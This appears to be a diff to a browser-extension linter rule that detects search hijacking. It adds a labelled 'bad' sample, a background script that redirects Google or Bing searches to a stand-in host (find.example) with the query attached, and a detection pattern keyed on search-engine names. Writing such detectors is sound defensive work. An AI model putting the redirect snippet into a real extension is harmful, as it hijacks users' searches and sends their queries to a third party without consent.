@@ -77,6 +77,9 @@ export const searchHijack = defineRule({
         'const form = document.querySelector("textarea[name=q]").form; form.action = "https://plus.example/results"; form.method = "get";',
         { content_scripts: [{ matches: ['https://www.google.com/*'], js: ['content.js'] }] },
       ),
+      backgroundExample(
+        'chrome.webNavigation.onBeforeNavigate.addListener((d) => { const u = new URL(d.url); if (/google|bing/.test(u.hostname) && u.searchParams.get("q")) chrome.tabs.update(d.tabId, { url: "https://find.example/s?k=" + encodeURIComponent(u.searchParams.get("q")) }); });',
+      ),
     ],
     good: [
       contentExample(
@@ -152,7 +155,8 @@ const written = checkScripts(function* ({ script, file, facts, hit }) {
   }
   const named =
     textsOf(script).find(({ text }) => ENGINE.test(text) && text.length < 200)?.text ??
-    script.strings.find((text) => text.length < 60 && ENGINE.test(text) && text.includes('.'));
+    script.strings.find((text) => text.length < 60 && ENGINE.test(text) && text.includes('.')) ??
+    (textsOf(script).some(({ text }) => ASKED.test(text)) ? testedNames(script) : undefined);
   if (named === undefined) return;
   const engine = { text: named };
   for (const call of few(callsOf(script, 'chrome.tabs.update', 'chrome.tabs.create'))) {
@@ -176,6 +180,12 @@ const written = checkScripts(function* ({ script, file, facts, hit }) {
     }
   }
 });
+
+/** An expression that knows search services by name alone: `/google|bing/.test(url.hostname)`. */
+const testedNames = (script: ScriptFacts): string | undefined =>
+  expressionsOf(script).find(
+    ({ text }) => text.length < 200 && /\b(?:google|bing|yahoo|duckduckgo|baidu|yandex)\b/i.test(text),
+  )?.text;
 
 /** Two or more of these in one package: it tells searches of several services apart. */
 const SERVICES = [
